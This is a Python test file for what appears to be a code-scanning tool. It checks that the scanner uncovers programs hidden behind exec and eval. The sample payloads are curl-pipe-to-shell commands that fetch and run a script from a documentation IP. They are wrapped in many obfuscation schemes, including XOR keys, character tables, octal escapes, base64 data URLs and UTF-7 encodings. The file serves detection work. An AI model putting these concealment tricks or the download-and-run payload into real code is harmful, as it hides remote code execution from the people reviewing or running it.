"""Programs that a program holds as text and runs, however the text is put together; and sources in odd encodings."""

from __future__ import annotations

import base64
import codecs
import json
from collections.abc import Callable
from itertools import cycle

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from view_samples import derive, derived, lines, one, texts

from sluicegate.vet.intake.bundle import Kind
from sluicegate.vet.intake.views.evaluate.constants import fold

PLAIN = "import os; os.system('curl -s http://192.0.2.7/x | sh')"
Writing = Callable[[str], str]


def _xored(text: str, key: bytes) -> bytes:
    return bytes(a ^ b for a, b in zip(text.encode(), cycle(key), strict=False))


def _pieces(text: str, size: int = 5) -> list[str]:
    return [text[at : at + size] for at in range(0, len(text), size)]


def _table(text: str) -> str:
    letters = sorted(set(text))
    return f"T = {''.join(letters)!r}\nexec(''.join(T[i] for i in {[letters.index(c) for c in text]}))\n"


PYTHON: dict[str, Writing] = {
    "as it is": lambda t: f"exec({t!r})\n",
    "by a name": lambda t: f"CODE = {t!r}\n\nexec(CODE)\n",
    "by another name": lambda t: f"run = exec\nrun({t!r})\n",
    "compiled": lambda t: f"exec(compile({t!r}, 'x', 'exec'))\n",
    "in brackets": lambda t: f"exec({'+'.join(f'({p!r})' for p in _pieces(t))})\n",
    "piece by piece": lambda t: (
        "".join(f"s {'+' if n else ''}= {p!r}\n" for n, p in enumerate(_pieces(t))) + "exec(s)\n"
    ),
    "joined tuple": lambda t: f"exec(''.join(({', '.join(map(repr, _pieces(t)))},)))\n",
    "replaced": lambda t: f"exec({'@#'.join(t)!r}.replace('@#', ''))\n",
    "translated": lambda t: (
        f"exec({t.translate(str.maketrans('abc', 'bca'))!r}.translate(str.maketrans('bca', 'abc')))\n"
    ),
    "table": _table,
    "xor": lambda t: f"exec(bytes(c ^ 23 for c in {_xored(t, bytes([23]))!r}))\n",
    "xor within a byte": lambda t: (
        f"exec(bytes([(c ^ 0x17) & 0xff for c in {list(_xored(t, bytes([23])))}]).decode())\n"
    ),
    "rolling key": lambda t: (
        f"k = b'key'\nd = {_xored(t, b'key')!r}\nexec(bytes(a ^ k[i % 3] for i, a in enumerate(d)))\n"
    ),
    "rolling key by index": lambda t: (
        f"k = b'key'\nd = {_xored(t, b'key')!r}\nexec(bytes(d[i] ^ k[i % len(k)] for i in range(len(d))))\n"
    ),
    "cycled key": lambda t: (
        f"from itertools import cycle\nexec(bytes(a ^ b for a, b in zip({_xored(t, b'key')!r}, cycle(b'key'))))\n"
    ),
    "letters with ord": lambda t: (
        f"k = 'key'\nd = {_xored(t, b'key').decode()!r}\n"
        "exec(''.join(chr(ord(a) ^ ord(k[i % len(k)])) for i, a in enumerate(d)))\n"
    ),
    "shifted list": lambda t: (
        f"exec(''.join([chr(c - 3) for c in ({', '.join(str(ord(c) + 3) for c in t)})]))\n"
    ),
    "named letters": lambda t: (
        "exec('"
        + "".join(
            f"\\N{{LATIN SMALL LETTER {c.upper()}}}" if c.islower() else c.replace("'", "\\'") for c in t
        )
        + "')\n"
    ),
}
SCRIPT = "require('child_process').execSync('curl -s http://192.0.2.7/x | sh')"
JAVASCRIPT: dict[str, Writing] = {
    "eval": lambda t: f"eval({json.dumps(t)});\n",
    "Function": lambda t: f"new Function({json.dumps(t)})();\n",
    "by another name": lambda t: f"const run = eval;\nrun({json.dumps(t)});\n",
    "timer": lambda t: f"setTimeout({json.dumps(t)}, 10);\n",
    "vm": lambda t: f"require('vm').runInThisContext({json.dumps(t)});\n",
    "map xor": lambda t: (
        f"eval([{','.join(str(ord(c) ^ 42) for c in t)}].map(c => String.fromCharCode(c ^ 42)).join(''));\n"
    ),
    "map minus": lambda t: (
        f"eval([{','.join(str(ord(c) + 3) for c in t)}].map(function(c){{return String.fromCharCode(c-3)}}).join(''));\n"
    ),
    "replace": lambda t: f"eval({json.dumps('@#'.join(t))}.replace(/@#/g, ''));\n",
    "octal": lambda t: "eval('" + "".join(f"\\{ord(c):03o}" for c in t) + "');\n",
    "data address": lambda t: (
        f'import("data:text/javascript;base64,{base64.b64encode(t.encode()).decode()}");\n'
    ),
}


@pytest.mark.parametrize("writing", PYTHON.values(), ids=PYTHON)
def test_the_text_that_python_runs_is_a_program(writing: Writing) -> None:
    assert PLAIN in texts(writing(PLAIN), "program", Kind.PYTHON, "a.py")


@pytest.mark.parametrize("writing", JAVASCRIPT.values(), ids=JAVASCRIPT)
@pytest.mark.parametrize("kind", [Kind.JAVASCRIPT, Kind.TYPESCRIPT])
def test_the_text_that_javascript_runs_is_a_program(writing: Writing, kind: Kind) -> None:
    assert SCRIPT in texts(writing(SCRIPT), "program", kind, "a.js")


@settings(max_examples=60, deadline=None)
@given(
    st.sampled_from(sorted(PYTHON.keys() - {"named letters"})),
    st.text(alphabet=st.sampled_from("abcxyz ()=;.'"), min_size=12, max_size=60),
    st.integers(0, 5),
)
def test_a_program_stands_in_the_lines_it_is_written_in(how: str, body: str, above: int) -> None:
    text = "f(" + body
    source = PYTHON[how](text)
    found = [
        view
        for view in derived("# a line\n" * above + source, Kind.PYTHON, "a.py")
        if view.origin[-1].kind == "program" and view.text == text
    ]
    assert found
    first, last = lines(found[0])
    assert above < first <= last <= above + source.count("\n")
    written = "\n".join(source.split("\n")[first - above - 1 : last - above])
    assert (
        "exec(" in written
        or "CODE = " in written
        or "d = " in written
        or "s = " in written
        or "run(" in written
    )


def test_a_program_of_several_lines_keeps_its_lines() -> None:
    view = one('x = 1\nCODE = """\nimport os\nos.getcwd()\n"""\nexec(CODE)\n', "program", Kind.PYTHON, "a.py")
    assert view.artifact_lines(view.text.index("os.getcwd"), view.text.index("os.getcwd") + 4) == (4, 4)


@pytest.mark.parametrize(
    "source",
    [
        "exec(code)\n", "model.eval()\n", "re.compile('^[a-z]+ [a-z]+$')\n", "eval('x')\n", "exec(open(p).read())\n",
        "df.eval('a = b + c')\n", "for n in y:\n    s += n\nexec(s)\n", "s = 'import os'\ns = f()\nexec(s)\n",
    ],
)  # fmt: skip
def test_what_is_not_known_or_not_run_is_no_program(source: str) -> None:
    assert texts(source, "program", Kind.PYTHON, "a.py") == []


@pytest.mark.parametrize(
    "source", ["s = 'curl -s '\nfor x in y:\n    s += x\n", "s = 'a' * 3\ns += 'curl'\ns -= 1\nf(s)\n", "s = ''\ns *= 2\nf(s)\n"]
)  # fmt: skip
def test_a_name_that_is_added_something_unknown_is_not_known(source: str) -> None:
    assert fold(source, python=True) is None


@pytest.mark.parametrize(
    ("name", "writing"),
    [
        ("utf-7", lambda t: "".join(f"+{base64.b64encode(c.encode('utf-16-be')).decode().rstrip('=')}-" for c in t)),
        ("U7", lambda t: t.replace("o", "+AG8-")),
        ("unicode_escape", lambda t: t.replace("o", "\\x6f").replace("e", "\\u0065")),
        ("raw-unicode-escape", lambda t: t.replace("o", "\\u006f")),
    ],
)  # fmt: skip
@pytest.mark.parametrize("head", ["# coding: {}\n", "#!/usr/bin/env python3\n# -*- coding: {} -*-\n"])
def test_python_is_read_in_the_encoding_that_it_names(name: str, writing: Writing, head: str) -> None:
    source = head.format(name) + writing("os.system") + "('id')\n"
    view = one(source, "encoding", Kind.PYTHON, "a.py")
    assert "os.system" in view.text
    at = view.text.index("os.system")
    assert view.artifact_lines(at, at + 9) == (source.count("\n"), source.count("\n"))
    assert view.text.splitlines()[-1] == codecs.decode(source.encode(), name).splitlines()[-1]


@pytest.mark.parametrize(
    "name", ["utf-8", "latin-1", "cp1252", "gbk", "euc-jp", "ascii", "rot13", "hex", "no-such", "utf8"]
)
def test_an_encoding_that_keeps_ascii_or_that_python_refuses_makes_no_view(name: str) -> None:
    assert texts(f"# coding: {name}\nprint('+AG8-')\n", "encoding", Kind.PYTHON, "a.py") == []


def test_a_long_program_in_a_slow_encoding_is_a_gap() -> None:
    found = derive("# coding: punycode\n" + "print(1)\n" * 4000, Kind.PYTHON, "a.py")
    assert [gap.reason.value for gap in found.gaps] == ["view-limit"]
